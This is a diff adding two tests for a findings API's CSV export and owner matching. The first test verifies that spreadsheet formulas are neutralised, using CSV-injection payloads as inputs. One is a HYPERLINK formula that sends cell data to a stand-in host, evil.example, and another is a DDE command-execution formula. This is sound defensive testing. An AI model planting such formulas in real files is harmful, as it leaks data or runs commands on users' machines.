@@ -305,6 +305,73 @@ describe('GET /api/meter-siem/findings', () => {
     });
   });
 
+  it('neutralises spreadsheet formulas in the CSV, and only there', async () => {
+    const formulas = [
+      '=HYPERLINK("https://evil.example/?"&A1,"Fix")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+    ];
+    const evil = buildIntegrationEntities(
+      formulas.map((environment, i) =>
+        integration(
+          `evil${i}`,
+          '333333333333',
+          'us-east-1',
+          { ...managed, owner: 'group:default/network', environment },
+          { externalId: false },
+        ),
+      ),
+      { settings, fallbackOwner: 'group:default/network' },
+    ) as unknown as Entity[];
+    const evilServer = await start({}, [...evil, ...org]);
+    const query = '?account=333333333333&rule=trust-without-external-id';
+
+    const json = await findings(evilServer, query);
+    expect(json.map(f => f.environment).sort()).toEqual([...formulas].sort());
+
+    const res = await request(evilServer)
+      .get(`/api/meter-siem/findings${query}&format=csv`)
+      .set('Authorization', userHeader);
+    expect(res.status).toBe(200);
+    const [header, ...rows] = parseCsv(res.text);
+    const environments = rows.map(row => row[header.indexOf('environment')]);
+    expect(environments.sort()).toEqual(formulas.map(f => `'${f}`).sort());
+    // No cell of the file starts a formula.
+    for (const row of rows) {
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('reads owners in one form: a short owner ref on an entity is matched too', async () => {
+    const [janes] = buildIntegrationEntities(
+      [
+        integration(
+          'short',
+          '444444444444',
+          'us-east-1',
+          { ...managed, owner: 'user:default/jane' },
+          { externalId: false },
+        ),
+      ],
+      { settings, fallbackOwner: 'group:default/network' },
+    ) as unknown as Entity[];
+    // As someone might write it by hand: kind and namespace left out.
+    const shortOwner = {
+      ...janes,
+      spec: { ...janes.spec, owner: 'user:jane' },
+    };
+    const shortServer = await start({}, [shortOwner, ...org]);
+
+    const all = await findings(shortServer);
+    expect(all.length).toBeGreaterThan(0);
+    expect(all.every(f => f.owner === 'user:jane' && f.mine)).toBe(true);
+    expect(await findings(shortServer, '?owner=user:default/jane')).toEqual(
+      all,
+    );
+    expect(await findings(shortServer, '?owner=network')).toEqual([]);
+  });
+
   it('returns one integration’s findings by entity ref', async () => {
     expect(
       (
